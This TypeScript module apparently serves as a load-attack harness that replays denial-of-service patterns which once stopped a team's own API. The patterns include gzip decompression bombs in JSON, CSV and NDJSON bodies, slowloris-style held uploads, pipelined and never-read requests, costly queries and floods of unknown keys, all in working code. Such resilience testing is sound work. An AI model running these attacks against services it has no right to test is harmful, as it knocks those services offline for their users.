import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';

/** What an attack is aimed at: a service, and the key of a member of a project that it serves. */
export interface Target {
  readonly url: string;
  readonly key: string;
}

/** Attacks until it is aborted; whatever is still open then is given up. */
export type Attack = (target: Target, signal: AbortSignal) => Promise<void>;

interface Sent {
  readonly path: string;
  readonly method?: 'GET' | 'POST';
  readonly type?: string;
  readonly isGzip?: boolean;
  readonly body?: Buffer | string;
  readonly key?: string;
}

const MIB = 1024 * 1024;
const CONCURRENT = 40;

/**
 * What stopped the service once, by what it is. Each keeps many requests open at a time and repeats
 * them: kilobytes that become megabytes, answers that are never read, reads that cost a second.
 */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'small arrays (gzip)': bodies('/usage', 'application/json', `[${'[],'.repeat(5_000_000)}[]]`),
  'brackets (gzip)': bodies('/usage', 'application/json', '['.repeat(8 * MIB)),
  'different names (gzip)': bodies('/usage', 'application/json', `{${names(1_300_000)}}`),
  'commas as CSV (gzip)': bodies('/inventory', 'text/csv', ','.repeat(16 * MIB - 100)),
  'wide rows (gzip)': bodies('/inventory', 'text/csv', `${','.repeat(16_000)}\n`.repeat(1_000)),
  'one open quote (gzip)': bodies('/inventory', 'text/csv', `a\n"${'x'.repeat(15 * MIB)}`),
  'short lines (gzip)': bodies('/sensors/patches', 'application/x-ndjson', 'x\n'.repeat(16 * MIB)),
  'lines with ids of 200 KB': bodies('/sensors/patches', 'application/x-ndjson', longIds()),
  '100 held uploads': heldUploads,
  'answers that are never read': neverRead,
  '1,000 pipelined requests': pipelined,
  '20,000 buckets in a zone': repeated({
    path:
      '/organization/measured/usage?start=1971-01-01&end=2025-10-01&every=1day' +
      '&time_zone=America/Santiago&size=100',
  }),
  'totals as of a moment': repeated({
    path: '/usage/simcards?as_of=2026-06-01T00:00:00Z&size=100',
  }),
  'unknown keys': unknownKeys,
  'health checks by strangers': repeated({ path: 'health/ready', key: '' }),
};

function names(count: number): string {
  return Array.from({ length: count }, (_, n) => `"${n}":1`).join(',');
}

function longIds(): string {
  const id = 'i'.repeat(200_000);
  return Array.from({ length: 300 }, (_, n) => `{"id":"${id}${n}","data":{"v":1}}\n`).join('');
}

function bodies(path: string, type: string, text: string): Attack {
  let body: Buffer | undefined;
  return (target, signal) => {
    body ??= gzipSync(text);
    return repeated({ path, method: 'POST', type, isGzip: true, body })(target, signal);
  };
}

/** As many requests at a time as `CONCURRENT`, each followed by the next. */
function repeated(sent: Sent): Attack {
  return async (target, signal) => {
    const one = async (): Promise<void> => {
      while (!signal.aborted) await send(target, sent, signal);
    };
    await Promise.all(Array.from({ length: CONCURRENT }, one));
  };
}

async function send({ url, key }: Target, sent: Sent, signal: AbortSignal): Promise<void> {
  const { path, method = 'GET', type, isGzip = false, body, key: own = key } = sent;
  const address = path.startsWith('/') ? `${url}/api/v1${path}` : `${url}/${path}`;
  try {
    const response = await fetch(address, {
      method,
      signal,
      headers: {
        ...(own !== '' && { authorization: `Bearer ${own}` }),
        ...(type !== undefined && { 'content-type': type }),
        ...(isGzip && { 'content-encoding': 'gzip' }),
      },
      ...(body !== undefined && { body }),
    });
    await response.arrayBuffer();
  } catch {
    // Refused, cut off or given up: an attacker tries again, and not at once.
    if (!signal.aborted) await delay(10);
  }
}

async function unknownKeys(target: Target, signal: AbortSignal): Promise<void> {
  let n = 0;
  const one = async (): Promise<void> => {
    while (!signal.aborted) {
      n += 1;
      await send(target, { path: '/devices', key: `fl_mem_unknown${n}_secret` }, signal);
    }
  };
  await Promise.all(Array.from({ length: CONCURRENT }, one));
}

async function heldUploads({ url, key }: Target, signal: AbortSignal): Promise<void> {
  const head =
    `POST /api/v1/usage HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: ` +
    `application/json\r\nContent-Length: 16000000\r\n\r\n`;
  await holding(url, 100, signal, (socket) => socket.write(head + '['.repeat(16_384)));
}

/** Asks for the whole of something large, again and again, and reads nothing. */
async function neverRead({ url, key }: Target, signal: AbortSignal): Promise<void> {
  const request =
    `GET /api/v1/usage/simcards?size=100 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ` +
    `${key}\r\n\r\n`;
  await holding(url, 100, signal, (socket) => {
    socket.pause();
    socket.write(request.repeat(60));
  });
}

async function pipelined({ url, key }: Target, signal: AbortSignal): Promise<void> {
  const request =
    `GET /api/v1/usage/simcards?size=100 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ` +
    `${key}\r\n\r\n`;
  await holding(url, 10, signal, (socket) => socket.write(request.repeat(1_000)));
}

async function holding(
  url: string,
  count: number,
  signal: AbortSignal,
  begin: (socket: Socket) => void,
): Promise<void> {
  const { hostname, port } = new URL(url);
  const one = async (): Promise<void> => {
    while (!signal.aborted) {
      const socket = connect(Number(port), hostname);
      const abort = (): void => void socket.destroy();
      signal.addEventListener('abort', abort, { once: true });
      socket.on('error', () => undefined);
      socket.on('data', () => undefined);
      begin(socket);
      await new Promise((resolve) => socket.once('close', resolve));
      signal.removeEventListener('abort', abort);
      if (!signal.aborted) await delay(10);
    }
  };
  await Promise.all(Array.from({ length: count }, one));
}
